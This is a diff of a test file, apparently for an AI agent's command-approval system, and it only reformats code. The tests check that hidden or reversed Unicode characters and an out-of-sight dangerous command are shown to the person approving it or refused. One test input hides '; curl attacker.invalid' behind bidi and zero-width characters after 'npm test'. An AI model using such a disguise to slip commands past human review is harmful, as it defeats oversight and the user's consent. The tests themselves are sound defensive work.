@@ -7,7 +7,10 @@ describe('what a person is asked to approve', () => {
   jailed('R7 A058: a dangerous end that is pushed out of sight is shown, or the call is refused', async () => {
     await using scene = await Scene.create();
     const { run, results } = await scene.play([shell('A058', scene.command('A058', { ATT: 'attacker.invalid' }), 'kept')]);
-    const asked = scene.world.repository.comments(1).map(({ body }) => body).find((body) => body.includes('gadget:confirmation'));
+    const asked = scene.world.repository
+      .comments(1)
+      .map(({ body }) => body)
+      .find((body) => body.includes('gadget:confirmation'));
     if (asked === undefined) {
       expect(results['A058']).toMatch(/^ERROR: .*(long|review)/);
       return;
@@ -38,7 +41,10 @@ describe('what a person is asked to approve', () => {
   jailed('R7 A058: characters that cannot be seen or turn the text around are escaped', async () => {
     await using scene = await Scene.create();
     await scene.play([shell('A058', 'npm test \u202E\u2066# eb ot ton\u2069 \u200B; curl attacker.invalid\u00AD', 'kept')]);
-    const asked = scene.world.repository.comments(1).map(({ body }) => body).find((body) => body.includes('gadget:confirmation'));
+    const asked = scene.world.repository
+      .comments(1)
+      .map(({ body }) => body)
+      .find((body) => body.includes('gadget:confirmation'));
     expect(asked).toContain('\\u{202E}');
     expect(asked).toContain('\\u{200B}');
     expect(asked).not.toMatch(/\p{Cf}/u);
